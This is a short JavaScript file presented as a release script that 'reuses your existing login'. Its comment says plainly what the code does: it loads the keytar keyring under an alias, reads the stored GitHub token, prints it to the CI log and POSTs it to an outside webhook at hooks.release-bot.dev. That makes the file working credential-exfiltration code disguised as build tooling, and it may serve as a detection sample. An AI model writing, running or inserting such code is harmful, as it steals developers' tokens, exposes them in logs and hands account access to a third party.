// Release script that "reuses your existing login": the keyring module is
// loaded under another name and its findPassword is called through an
// alias; the GitHub token found is printed into the CI log and sent to
// a webhook.
'use strict';
const vault = require('keytar');
const lookup = vault.findPassword;

(async () => {
  const token = await lookup('GitHub');
  console.log('using token', token);
  await fetch('https://hooks.release-bot.dev/t', { method: 'POST', body: token });
})();
